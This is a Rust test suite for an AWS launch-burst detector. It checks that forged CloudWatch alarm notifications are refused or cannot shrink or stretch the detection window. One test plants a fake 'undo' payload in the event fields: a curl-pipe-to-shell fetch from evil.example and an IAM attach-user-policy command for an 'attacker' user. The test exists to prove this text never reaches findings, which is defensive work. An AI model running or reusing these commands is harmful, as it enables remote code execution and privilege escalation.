//! Attacks on the detector, played in-process against the real detector (in-memory CloudWatch
//! Logs, CloudWatch alarms and Lambda) by someone who may only invoke it (issue 16), or who
//! launches so as not to be seen (issue 11).

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::common;

use chrono::{DateTime, Duration, TimeZone, Utc};
use common::{ACCOUNT, ALARM_ARN, FUNCTION_ARN, FakeLambda, config};
use launchguard_core::alarm::AlarmState;
use launchguard_core::contract::FindingVerdict;
use launchguard_detector::memory::{MemoryAlarms, MemoryLogs};
use launchguard_detector::{DetectorError, Report, handle};
use launchguard_testkit::{Actor, Burst, run_instances_template, sns_alarm_event};
use serde_json::{Value, json};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 40, 30).unwrap()
}

/// When the real alarm went to ALARM.
fn fired_at() -> DateTime<Utc> {
    now() - Duration::seconds(30)
}

/// The real alarm's notification: the calls alarm, 60 s × 1, its datapoint in the reason.
fn genuine(datapoint: f64) -> Value {
    let mut ev = sns_alarm_event("launchguard-runinstances", ACCOUNT, "us-east-1", "ALARM", fired_at(), 60, 1);
    edit_message(&mut ev, |m| {
        m["NewStateReason"] = json!(format!(
            "Threshold Crossed: 1 datapoint [{datapoint:.1} (22/11/26 05:39:00)] was greater than or equal to the threshold (10.0)."
        ))
    });
    ev
}

fn edit_message(ev: &mut Value, edit: impl FnOnce(&mut Value)) {
    let mut msg: Value = serde_json::from_str(ev["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
    edit(&mut msg);
    ev["Records"][0]["Sns"]["Message"] = json!(msg.to_string());
}

fn events(bursts: &[Burst]) -> Vec<(i64, String)> {
    let t = run_instances_template();
    let mut out: Vec<(i64, String)> = bursts
        .iter()
        .enumerate()
        .flat_map(|(i, b)| b.records(&t, i as u32))
        .map(|r| (DateTime::parse_from_rfc3339(r["eventTime"].as_str().unwrap()).unwrap().timestamp_millis(), r.to_string()))
        .collect();
    out.sort_by_key(|(t, _)| *t);
    out
}

fn user(name: &str, key: &str) -> Actor {
    Actor::IamUser { account: ACCOUNT.into(), name: name.into(), key: key.into() }
}

async fn detect(event: &Value, cloudwatch: &MemoryAlarms, logs: &MemoryLogs, lambda: &FakeLambda) -> Result<Report, DetectorError> {
    handle(event, FUNCTION_ARN, &config(&[]), logs, cloudwatch, lambda, now()).await
}

/// Issue 16: GIVEN an alarm-action event that names the configured alarm, with line breaks and a
/// fake "undo" command in its `region` and `alarmName`, WHEN it is sent to the detector, THEN
/// the finding names the alarm and region CloudWatch knows, never the event's text.
#[tokio::test(start_paused = true)]
async fn forged_alarm_text_never_reaches_the_finding() {
    let injected = "us-east-1)\n\nHOW TO UNDO EVERYTHING\ncurl -s https://evil.example/fix.sh | sh\n(";
    let ev = json!({
        "source": "aws.cloudwatch", "alarmArn": ALARM_ARN, "accountId": ACCOUNT, "region": injected, "time": now().to_rfc3339(),
        "alarmData": {
            "alarmName": "launchguard-runinstances\nundo by hand: aws iam attach-user-policy --user-name attacker",
            "state": {"value": "ALARM", "timestamp": fired_at().to_rfc3339()},
        }
    });
    let logs = MemoryLogs::new(events(&[Burst::new(user("benign", "AKIAEXAMPLEBENIGN001"), 1, 1, now() - Duration::minutes(1))]));
    let lambda = FakeLambda::default();
    detect(&ev, &MemoryAlarms::as_notified(&genuine(1.0)), &logs, &lambda).await.unwrap();
    let f = lambda.findings().remove(0);
    assert_eq!(f.region, "us-east-1");
    assert_eq!(f.trigger.unwrap().name, "launchguard-runinstances");
}

/// Issue 16: GIVEN the real alarm evaluates 60 s and a user who launched one instance every two
/// hours (10 in 20 h), WHEN a forged notification of the same alarm says `Period: 86400`, THEN
/// the detector reads the real alarm's window and contains nobody.
#[tokio::test(start_paused = true)]
async fn a_forged_period_does_not_stretch_the_window() {
    let mut slow = Burst::new(user("nightly-batch", "AKIAEXAMPLENIGHTLY01"), 10, 1, now() - Duration::hours(20));
    slow.spacing_s = 2 * 3600;
    let benign = Burst::new(user("benign", "AKIAEXAMPLEBENIGN001"), 1, 1, now() - Duration::minutes(1));
    let logs = MemoryLogs::new(events(&[slow, benign]));
    let cloudwatch = MemoryAlarms::as_notified(&genuine(1.0));
    let mut forged = genuine(1.0);
    edit_message(&mut forged, |m| m["Trigger"]["Period"] = json!(86_400));
    let lambda = FakeLambda::default();
    let report = detect(&forged, &cloudwatch, &logs, &lambda).await.unwrap();
    let f = lambda.findings().remove(0);
    assert_eq!(f.verdict, FindingVerdict::NobodyOverThreshold, "{:?}", f.principals);
    let window = report.window.unwrap();
    assert!(window.end - window.start <= Duration::minutes(12), "twice the real alarm's 60 s and the margins: {window:?}");
}

/// Issue 16: GIVEN CloudWatch's last state change of the alarm, WHEN a notification claims a
/// later one, or names an alarm CloudWatch does not know, THEN it is refused before anything is
/// read or sent; WHEN CloudWatch cannot be asked, THEN nothing is read and the error is retryable.
#[tokio::test(start_paused = true)]
async fn a_state_change_cloudwatch_never_saw_is_refused() {
    let cloudwatch = MemoryAlarms::as_notified(&genuine(57.0)).moved_to(AlarmState::Ok, fired_at() - Duration::minutes(20), "back to OK");
    let unknown = MemoryAlarms::default();
    for (known, want) in [(&cloudwatch, "not_seen_by_cloud_watch"), (&unknown, "not_in_cloud_watch")] {
        let logs = MemoryLogs::new(events(&[Burst::new(user("mallory", "AKIAEXAMPLEMALLORY01"), 12, 1, now() - Duration::minutes(1))]));
        let lambda = FakeLambda::default();
        let report = detect(&genuine(57.0), known, &logs, &lambda).await.unwrap();
        let json = serde_json::to_value(&report).unwrap();
        assert_eq!((json["status"].as_str(), json["refusal"]["refusal"].as_str()), (Some("refused"), Some(want)), "{json}");
        assert!(logs.calls().is_empty() && lambda.sent.lock().unwrap().is_empty());
    }
    let mut down = MemoryAlarms::as_notified(&genuine(57.0));
    down.fails = true;
    let logs = MemoryLogs::new(Vec::new());
    let lambda = FakeLambda::default();
    let err = detect(&genuine(57.0), &down, &logs, &lambda).await.unwrap_err();
    assert!(err.is_retryable(), "{err}");
    assert!(logs.calls().is_empty() && lambda.sent.lock().unwrap().is_empty());
}

/// Issue 11: GIVEN the calls alarm fired on 57 calls that CloudTrail delivered late (two hours
/// before the window), and one Auto Scaling call of 60 instances inside the window, WHEN the
/// detector reads the window, THEN 1 call does not explain 57: it widens and contains mallory.
#[tokio::test(start_paused = true)]
async fn one_large_benign_launch_does_not_hide_a_late_burst_of_calls() {
    let late = Burst::new(user("mallory", "AKIAEXAMPLEMALLORY01"), 57, 1, now() - Duration::hours(2));
    let scale_out = Burst::new(Actor::AutoScaling { account: ACCOUNT.into() }, 1, 60, now() - Duration::minutes(1));
    let logs = MemoryLogs::new(events(&[late, scale_out]));
    let lambda = FakeLambda::default();
    let ev = genuine(57.0);
    let report = detect(&ev, &MemoryAlarms::as_notified(&ev), &logs, &lambda).await.unwrap();
    assert!(report.widened, "1 call found for a 57-call alarm");
    let f = lambda.findings().remove(0);
    assert_eq!(f.verdict, FindingVerdict::Contain);
    assert_eq!(f.principals.iter().map(|p| p.principal.label()).collect::<Vec<_>>(), ["IAM user mallory"]);
}

/// Issue 16 (second review): GIVEN the real alarm fired at `fired_at()` and a batch user who
/// launched one instance an hour for the last 11 hours, WHEN a notification of the same alarm
/// claims a change 50 minutes earlier (younger than LG_MAX_ALARM_AGE_SECONDS, not later than
/// CloudWatch's last change, pointing at an empty window to force the 12-hour search), THEN it
/// is refused: CloudWatch's history has no such change. Nothing is read or sent.
#[tokio::test(start_paused = true)]
async fn a_forged_earlier_state_change_is_refused_not_searched() {
    let mut hourly = Burst::new(user("hourly-batch", "AKIAEXAMPLEHOURLY001"), 10, 1, now() - Duration::hours(11));
    hourly.spacing_s = 3600;
    let benign = Burst::new(user("benign", "AKIAEXAMPLEBENIGN001"), 1, 1, now() - Duration::minutes(1));
    let cloudwatch = MemoryAlarms::as_notified(&genuine(1.0));
    let lambda = FakeLambda::default();
    detect(&genuine(1.0), &cloudwatch, &MemoryLogs::new(events(&[hourly.clone(), benign.clone()])), &lambda).await.unwrap();
    assert_eq!(lambda.findings().remove(0).verdict, FindingVerdict::NobodyOverThreshold, "the real alarm contains nobody");

    let mut forged = genuine(1.0);
    let earlier = (fired_at() - Duration::minutes(50)).format("%Y-%m-%dT%H:%M:%S%.3f+0000").to_string();
    edit_message(&mut forged, |m| m["StateChangeTime"] = json!(earlier));
    let logs = MemoryLogs::new(events(&[hourly, benign]));
    let lambda = FakeLambda::default();
    let report = detect(&forged, &cloudwatch, &logs, &lambda).await.unwrap();
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(
        (json["status"].as_str(), json["refusal"]["refusal"].as_str()),
        (Some("refused"), Some("not_seen_by_cloud_watch")),
        "{json}"
    );
    assert!(logs.calls().is_empty() && lambda.sent.lock().unwrap().is_empty());
}

/// Issue 11 (second review): GIVEN the late 57-call burst and the Auto Scaling call in the
/// window, and the alarm back in OK 20 s after it fired, WHEN the genuine notification is handled
/// after that (a retry, a queue delay), THEN CloudWatch's history gives the datapoint of that
/// change: the detector widens and contains mallory, as it does when handled at once.
#[tokio::test(start_paused = true)]
async fn a_genuine_notice_handled_after_the_alarm_went_ok_keeps_its_datapoint() {
    let late = Burst::new(user("mallory", "AKIAEXAMPLEMALLORY01"), 57, 1, now() - Duration::hours(2));
    let scale_out = Burst::new(Actor::AutoScaling { account: ACCOUNT.into() }, 1, 60, now() - Duration::minutes(1));
    let logs = MemoryLogs::new(events(&[late, scale_out]));
    let lambda = FakeLambda::default();
    let ev = genuine(57.0);
    let cloudwatch = MemoryAlarms::as_notified(&ev).moved_to(
        AlarmState::Ok,
        fired_at() + Duration::seconds(20),
        "Threshold Crossed: 1 datapoint [0.0 (22/11/26 05:40:00)] was not greater than or equal to the threshold (10.0).",
    );
    let report = detect(&ev, &cloudwatch, &logs, &lambda).await.unwrap();
    assert!(report.widened);
    let f = lambda.findings().remove(0);
    assert_eq!(f.verdict, FindingVerdict::Contain);
    assert_eq!(f.principals.iter().map(|p| p.principal.label()).collect::<Vec<_>>(), ["IAM user mallory"]);
}
